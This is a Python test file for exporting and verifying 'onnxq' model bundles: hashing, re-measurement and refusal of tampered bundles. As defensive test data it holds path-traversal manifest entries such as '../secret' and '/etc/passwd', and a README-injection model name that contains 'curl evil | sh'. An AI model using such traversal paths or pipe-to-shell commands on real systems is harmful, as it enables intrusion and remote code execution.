"""Bundles: they hold all that another machine needs, what was measured is measured again, strangers' are refused."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import ml_dtypes
import numpy as np
import onnx
import onnxruntime
import pytest
import tiny
from bundled import edit, sign_again
from click.testing import CliRunner

import onnxq
from onnxq.bundles import measure
from onnxq.bundles import verify as verifying
from onnxq.bundles.export import export
from onnxq.bundles.manifest import MANIFEST, SAMPLES, SUMS, this_platform
from onnxq.bundles.verify import verify
from onnxq.cli import main
from onnxq.errors import BadData, BadModel, BadOutput, BadRecipe, CheckFailed
from onnxq.files import limits
from onnxq.output import write
from onnxq.recipe import Recipe
from onnxq.runtime import native

pytestmark = pytest.mark.usefixtures("quick", "short")
needs_library = pytest.mark.skipif(native.path() is None, reason="the compiled library was not built")
TEXT = "g (float[n, 64] x) => (float[n, 48] y) { [up] a = MatMul(x, w)  b = Relu(a)  [down] y = MatMul(b, v) }"
CONSTANTS = {"w": tiny.normal(64, 128), "v": tiny.normal(128, 48, seed=1)}
DATA = [{"x": tiny.normal(2, 64, seed=seed)} for seed in range(8)]


@pytest.fixture
def short(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(measure, "SECONDS", 0.001)


@pytest.fixture
def model(tmp_path: Path) -> Path:
    return tiny.save(tiny.model(TEXT, CONSTANTS), tmp_path)


def quantized(model: Path, scheme: str, target: str) -> Path:
    recipe = Recipe(scheme, min_sqnr=-np.inf, keep_slow=True)
    output = model.with_name("small.onnx")
    onnxq.quantize(model, output, recipe, target=target, data=DATA if scheme == "w8a8" else None, check=False)
    return output


@pytest.mark.parametrize(
    ("scheme", "target"), [("w8a8", "ort-cpu"), ("w8a16", "onnx"), pytest.param("w4a16", "onnxq", marks=needs_library)]
)
def test_what_was_measured_is_measured_again(scheme: str, target: str, model: Path, tmp_path: Path) -> None:
    small = quantized(model, scheme, target)
    done = export(small, tmp_path / "b", reference=model, data=DATA)
    manifest = done.manifest
    assert (manifest.target, manifest.model, manifest.platform) == (target, "model.onnx", this_platform())
    assert (tmp_path / "b" / "model.onnx").read_bytes() == small.read_bytes()
    assert (manifest.library is not None) == (target == "onnxq")
    assert manifest.library is None or (tmp_path / "b" / manifest.library).read_bytes()[:4] == b"\x7fELF"
    there = manifest.measured
    assert there is not None and there.sqnr is not None and 15 < there.sqnr < 60 and there.proves
    assert there.kernels and there.milliseconds > 0
    moved = (tmp_path / "b").rename(tmp_path / "elsewhere")
    found = verify(moved)
    assert found.agrees is not None and found.agrees > 100 and found.sqnr == pytest.approx(there.sqnr, abs=0.01)
    assert found.kernels == there.kernels and not found.notes
    sums = dict(reversed(line.split("  ")) for line in (moved / SUMS).read_text().splitlines())
    assert sums == {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in moved.iterdir() if p.name != SUMS}


def test_run_py_needs_nothing_of_onnxq(model: Path, tmp_path: Path) -> None:
    export(model, tmp_path / "b")
    code = "import sys, runpy; sys.modules['onnxq'] = None; runpy.run_path('run.py', run_name='__main__')"
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path / "b", capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert "agrees  identical" in done.stdout and re.search(r"time    \d+\.\d+ ms", done.stdout)
    stored = dict(np.load(tmp_path / "b" / SAMPLES))
    np.savez(tmp_path / "b" / SAMPLES, **stored | {"out.0.0": stored["out.0.0"][:0]})
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path / "b", capture_output=True, text=True, check=False)
    assert done.returncode == 1 and "agrees  in nothing: 'y' has shape" in done.stdout, done.stderr


def test_a_bundle_of_float8_computes_what_sessions_of_onnxq_do(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rules of onnxruntime's optimizer would drop the Relu: by `run.py` and the lines of the README they do not."""
    rounding = "r = Relu(x) q = QuantizeLinear(r, s, z) y = DequantizeLinear(q, s, z)"
    text = f"g (float[2, 16] x) => (float[2, 16] y) {{ {rounding} }}"
    zero = np.array(0, ml_dtypes.float8_e4m3fn)
    model = tiny.save(tiny.model(text, {"s": np.array(0.1, np.float32), "z": zero}, opset=21), tmp_path)
    export(model, tmp_path / "b")
    done = subprocess.run([sys.executable, "run.py"], cwd=tmp_path / "b", capture_output=True, text=True, check=False)
    assert "agrees  identical" in done.stdout, done.stderr
    assert verify(tmp_path / "b").agrees
    text = (tmp_path / "b" / "README.md").read_text()
    blocks = re.findall(r"^```(?:python|cpp|csharp|java|js)\n([\s\S]*?)^```", text, re.MULTILINE)
    assert len(blocks) == 5 and all("disable_specified_optimizers" in each for each in blocks)
    monkeypatch.chdir(tmp_path / "b")
    names: dict[str, Any] = {}
    exec(compile(blocks[0], "README.md", "exec"), names)
    x = tiny.normal(2, 16)
    for session in (names["session"], onnxq.session(model), onnxq.session(model.read_bytes())):
        assert session.run(None, {"x": x})[0].min() == 0


@needs_library
def test_the_lines_of_its_readme_load_it(model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    small = quantized(model, "w4a16", "onnxq")
    export(small, tmp_path / "b")
    text = (tmp_path / "b" / "README.md").read_text()
    (block,) = re.findall(r"^```python\n([\s\S]*?)^```", text, re.MULTILINE)
    monkeypatch.chdir(tmp_path / "b")
    names: dict[str, Any] = {}
    exec(compile(block, "README.md", "exec"), names)
    x = tiny.normal(3, 64, seed=7)
    np.testing.assert_array_equal(names["session"].run(None, {"x": x})[0], onnxq.session(small).run(None, {"x": x})[0])
    assert len(re.findall(r"^```(cpp|csharp|java|js)$", text, re.MULTILINE)) == 4


def test_data_beside_the_model_come_along(model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    onnx.save(onnx.load(model), model, save_as_external_data=True, location="some.weights", size_threshold=0)
    monkeypatch.setattr(write, "SINGLE_FILE_BYTES", 0)
    done = export(model, tmp_path / "b")
    (data,) = done.manifest.data
    assert (tmp_path / "b" / data).stat().st_size >= CONSTANTS["w"].nbytes
    assert f'"data": "/{data}"' in (tmp_path / "b" / "README.md").read_text()
    model.with_name("some.weights").unlink()
    assert verify(tmp_path / "b").agrees
    edit(tmp_path / "b", lambda table: table["files"].pop(data))
    with pytest.raises(BadModel, match="which is not among the files of the bundle"):
        verify(tmp_path / "b")


def test_samples_of_the_user(model: Path, tmp_path: Path) -> None:
    np.savez(tmp_path / "data.npz", x=tiny.normal(9, 2, 64))
    there = export(model, tmp_path / "b", data=str(tmp_path / "data.npz"), reference=model).manifest.measured
    assert there is not None and there.proves and there.samples == 4 and there.sqnr is not None and there.sqnr > 100
    with np.load(tmp_path / "b" / SAMPLES) as arrays:
        np.testing.assert_array_equal(arrays["in.0.0"], tiny.normal(9, 2, 64)[0])


@pytest.mark.parametrize("type", ["bfloat16", "string"])
def test_other_types_of_inputs_and_outputs(type: str, tmp_path: Path) -> None:
    """bfloat16, which no array file has; strings; a random output, which is not compared."""
    nodes = "{ y = Cast <to = 1> (x) r = RandomNormalLike(y) t = Identity(x) }"
    text = f"g ({type}[8] x) => (float[8] y, float[8] r, {type}[8] t) {nodes}"
    model = tiny.save(tiny.model(text), tmp_path)
    x = (np.arange(8) / 2).astype(ml_dtypes.bfloat16)
    x = x if type == "bfloat16" else x.astype(np.float32).astype(str).astype(object)
    done = export(model, tmp_path / "b", data=[{"x": x}])
    assert done.manifest.measured is not None
    assert done.manifest.measured.outputs == (["y", "t"] if type == "bfloat16" else ["y"])
    assert done.notes == ("output 'r' is random: not compared",)
    agrees = verify(tmp_path / "b").agrees
    assert agrees is not None and agrees > 100


def test_a_model_that_computes_something_else_here(model: Path, tmp_path: Path) -> None:
    """Its samples hold other outputs: as if this processor computed otherwise."""
    for number, (reference, scale, words) in enumerate(
        [(None, 0.5, "computes something else here"), (model, 0.5, "further from float here")]
    ):
        bundle = export(quantized(model, "w8a16", "onnx"), tmp_path / str(number), reference=reference).output
        model.with_name("small.onnx").unlink()
        with np.load(bundle / SAMPLES) as arrays:
            changed = {k: x * (scale if k.startswith(("out", "float")) else 1) for k, x in arrays.items()}
        np.savez(bundle / SAMPLES, **changed)
        sign_again(bundle, SAMPLES)
        with pytest.raises(CheckFailed, match=words):
            verify(bundle)


def test_little_more_error_is_no_failure(model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bundle = export(quantized(model, "w8a16", "onnx"), tmp_path / "b", reference=model).output
    edit(bundle, lambda table: table["measured"].update(sqnr=table["measured"]["sqnr"] + 2 * verifying.WORSE_DB))
    assert verify(bundle).agrees  # the outputs are the same: what is left is how they were added up
    monkeypatch.setattr(verifying, "SAME_DB", 1000)
    with pytest.raises(CheckFailed, match="further from float here"):
        verify(bundle)


@needs_library
def test_a_library_of_strangers_is_not_loaded_unasked(model: Path, tmp_path: Path) -> None:
    bundle = export(quantized(model, "w4a16", "onnxq"), tmp_path / "b").output
    library = onnxq.ops_library().name
    assert "MatMulNBits" in verify(bundle).kernels and verify(bundle, load_library=True).agrees
    with open(bundle / library, "ab") as file:
        file.write(b"another one")
    sign_again(bundle, library)
    found = verify(bundle)
    assert any("is not this installation's: not loaded (--load-library does)" in note for note in found.notes)
    assert verify(bundle, load_library=True).notes == ()
    (bundle / library).write_bytes(b"no library")
    sign_again(bundle, library)
    with pytest.raises(BadModel, match="cannot load the library"):
        verify(bundle, load_library=True)
    edit(bundle, lambda table: table.update(platform="plan9-mips"))
    assert any("is for plan9-mips" in note for note in verify(bundle).notes)
    with pytest.raises(BadRecipe, match="is for plan9-mips, and this is"):
        verify(bundle, load_library=True)


@pytest.fixture
def bundle(model: Path, tmp_path: Path) -> Path:
    return export(model, tmp_path / "bundle").output


def with_file(name: str) -> Callable[[dict[str, Any]], object]:
    return lambda table: table["files"].update({name: table["files"]["run.py"]})


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (with_file("../secret"), "names '../secret', which is no place in the bundle"),
        (with_file("a/../../secret"), "no place in the bundle"),
        (with_file("/etc/passwd"), "no place in the bundle"),
        (with_file("a\\b"), "no place in the bundle"),
        (with_file("C:x"), "no place in the bundle"),
        (with_file("a\0b"), "no place in the bundle"),
        (with_file("./run.py"), "no place in the bundle"),
        (with_file("lacking.py"), "lacks 'lacking.py'"),
        (with_file("link"), "is a link or no file"),
        (with_file("folder"), "is a link or no file"),
        (with_file("linked/x"), "is a link or no file"),
        (lambda t: t["files"]["run.py"].update(bytes=1 << 62), "the manifest says 4611686018427387904"),
        (lambda t: t["files"]["run.py"].update(bytes=-1), "damaged: files"),
        (lambda t: t["files"]["run.py"].update(sha256="0" * 64), "its SHA-256 is another one"),
        (lambda t: t["files"]["run.py"].update(sha256="no"), "damaged: files"),
        (lambda t: t["files"].pop("model.onnx"), "'model.onnx' is not among its files"),
        (lambda t: t["files"].pop(SAMPLES), "'samples.npz' is not among its files"),
        (lambda t: t.update(model="../model.onnx"), "is not among its files"),
        (lambda t: t.update(model="run.py"), "not an ONNX model|cannot be read|not a legal"),
        (lambda t: t.update(library="../lib.so"), "is not among its files"),
        (lambda t: t.update(onnxq_bundle=2), "version 2, made by a later onnxq"),
        (lambda t: t.update(more=1), "damaged"),
        (lambda t: t["measured"].update(samples=1 << 40), "damaged: measured.samples"),
        (lambda t: t["measured"].update(outputs=["z"]), "has no output 'z'"),
    ],
)
def test_hostile_manifests(change: Callable[[dict[str, Any]], object], words: str, bundle: Path) -> None:
    for name in ("secret", "x"):
        (bundle.parent / name).write_text("")
    (bundle / "link").symlink_to(bundle / "run.py")
    (bundle / "folder").mkdir()
    (bundle / "linked").symlink_to(bundle.parent)
    edit(bundle, change)
    with pytest.raises(BadModel, match=words):
        verify(bundle)


@pytest.mark.parametrize(
    ("raw", "words"),
    [(b"", "damaged"), (b"[1]", "damaged"), (b"\xff", "not text in UTF-8"), (b"[" * 100_000, "nested too deeply")],
)
def test_damaged_manifests(raw: bytes, words: str, bundle: Path) -> None:
    (bundle / MANIFEST).write_bytes(raw)
    with pytest.raises(BadModel, match=words):
        verify(bundle)


def test_a_manifest_without_end(bundle: Path) -> None:
    os.truncate(bundle / MANIFEST, limits.TEXT_BYTES + 1)
    with pytest.raises(BadModel, match="is longer than 64 MB"):
        verify(bundle)
    (bundle / MANIFEST).unlink()
    os.mkfifo(bundle / MANIFEST)
    with pytest.raises(BadModel, match="is not a file"):
        verify(bundle)
    with pytest.raises(BadModel, match=r"is not a bundle: it has no manifest\.json"):
        verify(bundle.parent / "nowhere")


def test_no_more_threads_than_this_machine_has(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A manifest may say 65,536, whose threads would take longer to begin than anybody waits."""
    edit(bundle, lambda t: t["measured"].update(threads=1 << 16))
    asked: list[int] = []
    run = measure.run
    monkeypatch.setattr(measure, "run", lambda *given: (asked.append(given[3]), run(*given))[1])
    verify(bundle)
    assert asked == [native.cores()]
    verify(bundle, threads=1)
    assert asked[1:] == [1]


@pytest.mark.parametrize("type", ["V2", "?", "U1", "c8", "f2"])
def test_stored_outputs_of_another_type_are_not_taken_for_equal(type: str, bundle: Path) -> None:
    with np.load(bundle / SAMPLES) as file:
        arrays = dict(file)
    for name in arrays:
        if name.startswith("out."):
            arrays[name] = np.zeros(arrays[name].shape, type)
    np.savez(bundle / SAMPLES, **arrays)  # type: ignore[arg-type]
    sign_again(bundle, SAMPLES)
    with pytest.raises(BadData, match=r"is of type|holds the output 'y' as (bool|float16); the model gives float32"):
        verify(bundle)


def test_hostile_samples(bundle: Path) -> None:
    for arrays, words in (
        ({"in.0.0": np.array([{}], object)}, "pickled Python objects"),
        ({"in.0.0": np.array([["a"]])}, "'in.0.0' is of type <U1"),
        ({"in.0.0": np.ones((1, 64), np.complex64)}, "'in.0.0' is of type complex64"),
        ({"in.0.0": tiny.normal(2, 64)}, "does not hold what the manifest says"),
        ({}, "does not hold what the manifest says|cannot be read"),
    ):
        np.savez(bundle / SAMPLES, **arrays)
        sign_again(bundle, SAMPLES)
        with pytest.raises(BadData, match=words):
            verify(bundle)
    (bundle / SAMPLES).write_bytes(b"PK no archive")
    sign_again(bundle, SAMPLES)
    with pytest.raises(BadData, match="cannot be read"):
        verify(bundle)


def test_where_it_goes_and_what_it_refuses(model: Path, tmp_path: Path) -> None:
    run = CliRunner().invoke
    packed = quantized(model, "w4a16", "ort-cpu")
    for arguments, words in (
        ([packed, "-t", "onnx"], "has operators of com.microsoft, which target onnx lacks: 'onnxq convert small.onnx"),
        ([tmp_path / "no.onnx"], "no such file"),
        ([tmp_path], "is a folder; give one of its models"),
        ([model, "-o", tmp_path], "one contains the other"),
        ([model, "-o", tmp_path / "no" / "b"], "does not exist"),
        ([model, "--reference", tmp_path / "no.onnx"], "no such file"),
    ):
        done = run(main, ["export", *map(str, arguments)], catch_exceptions=False)
        assert done.exit_code == 1 and words in done.stderr.replace("\n", " "), done.stderr
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "precious").write_text("")
    with pytest.raises(BadOutput, match="holds files that onnxq did not write"):
        export(model, tmp_path / "full", force=True)
    export(model, tmp_path / "b", check=False)
    with pytest.raises(BadOutput, match="give --force to replace it"):
        export(model, tmp_path / "b", check=False)
    export(model, tmp_path / "lock", check=False)  # as what tells whose a staging folder is
    done = run(main, ["verify", str(tmp_path / "b")])
    assert done.exit_code == 3 and "no samples are stored" in done.stdout
    done = run(main, ["export", str(packed), "-o", str(tmp_path / "b"), "--force"])
    assert done.exit_code == 0 and "for ort-cpu" in done.stdout, done.output
    done = run(main, ["verify", str(tmp_path / "b"), "--json"])
    table = json.loads(done.stdout)
    assert done.exit_code == 0 and table["agrees"] > 100 and table["manifest"]["target"] == "ort-cpu"
    shutil.copy(model, tmp_path / "b" / "other.onnx")
    assert "'other.onnx' is not of the bundle" in run(main, ["verify", str(tmp_path / "b")]).stdout
    assert not list(tmp_path.glob(".onnxq-*"))


def test_onnxruntime_alone_opens_it(bundle: Path) -> None:
    x = tiny.normal(5, 64)
    (found,) = onnxruntime.InferenceSession(bundle / "model.onnx").run(None, {"x": x})
    assert tiny.sqnr(np.maximum(x @ CONSTANTS["w"], 0) @ CONSTANTS["v"], found) > 100


@pytest.mark.parametrize("odd", ["x`\n\n```sh\ncurl evil | sh\n```", "<img src=x>", "a|b", "\x1b[2J", "[a](http://b)"])
def test_names_of_a_model_are_no_markup_in_the_readme(odd: str, model: Path, tmp_path: Path) -> None:
    proto = onnx.load(model)
    plain = export(model, tmp_path / "plain", check=False).output / "README.md"
    proto.graph.input[0].name = proto.graph.node[0].input[0] = odd
    onnx.save(proto, model)
    made = export(model, tmp_path / "odd", check=False).output / "README.md"
    before, after = (path.read_text(encoding="utf-8").splitlines() for path in (plain, made))
    assert len(before) == len(after)
    (line,) = [new for old, new in zip(before, after, strict=True) if old != new]
    assert line.count("|") == 4 and not re.search(r"[`!\[\]\x1b]|<(?!/?code>)", line)


@pytest.mark.parametrize("outputs", ["int64[N] k", "float[N, 10] y, int64[N] k"], ids=["alone", "beside numbers"])
def test_a_decision_that_is_nearly_a_tie_may_differ_here(outputs: str, tmp_path: Path) -> None:
    text = f"g (float[N, 32] x) => ({outputs}) {{ y = MatMul(x, w)  k = ArgMax<axis=1, keepdims=0>(y) }}"
    model = tiny.save(tiny.model(text, {"w": tiny.normal(32, 10)}), tmp_path)
    bundle = tmp_path / "bundle"
    export(model, bundle, data=[{"x": tiny.normal(4, 32, seed=i)} for i in range(2)])
    stored = dict(np.load(bundle / "samples.npz"))
    names = [name for name, x in stored.items() if x.dtype == np.int64]
    stored[names[0]][0] ^= 1
    np.savez(bundle / "samples.npz", **stored)
    sign_again(bundle, "samples.npz")
    assert (verify(bundle).agrees or 0.0) < verifying.AGREES_DB
    assert (
        "7 of 8 decisions" in subprocess.run([sys.executable, bundle / "run.py"], capture_output=True, text=True).stdout
    )
    for name in names:
        stored[name] ^= 1
    np.savez(bundle / "samples.npz", **stored)
    sign_again(bundle, "samples.npz")
    with pytest.raises(CheckFailed, match="computes something else here"):
        verify(bundle)
